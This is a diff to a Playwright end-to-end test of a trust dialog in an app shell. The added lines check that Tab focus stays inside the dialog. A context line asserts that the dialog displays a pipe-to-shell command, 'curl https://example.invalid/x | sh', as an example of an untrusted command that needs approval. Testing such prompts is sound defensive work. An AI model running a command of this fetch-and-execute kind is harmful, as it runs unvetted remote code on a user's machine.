@@ -191,6 +191,23 @@ describeE2E('app shell in web mode (Chromium, Docker)', (engine) => {
         const keys = await trust.locator('.trust-key').allInnerTexts();
         expect(keys).toEqual(['agent', 'mounts']); // bashTimeout stays inside: no question
         expect(await trust.innerText()).toContain('curl https://example.invalid/x | sh');
+        // Tab never leaves the dialog for the page behind it (its Start button among others).
+        const focused: string[] = [];
+        for (let i = 0; i < 8; i++) {
+          await page.keyboard.press(i % 3 === 2 ? 'Shift+Tab' : 'Tab');
+          focused.push(
+            await page.evaluate(() => {
+              const a = document.activeElement;
+              return a?.closest('[role="dialog"]')
+                ? (a.textContent ?? '')
+                : `outside: ${a?.tagName}`;
+            }),
+          );
+        }
+        expect(focused.filter((f) => f.startsWith('outside'))).toEqual([]);
+        expect(new Set(focused)).toEqual(
+          new Set(['Cancel', 'Start without them', 'Trust and start']),
+        );
         if (dismiss === 'Escape') await page.keyboard.press('Escape');
         else await trust.getByRole('button', { name: 'Cancel' }).click();
         await expect.poll(() => trust.count()).toBe(0);
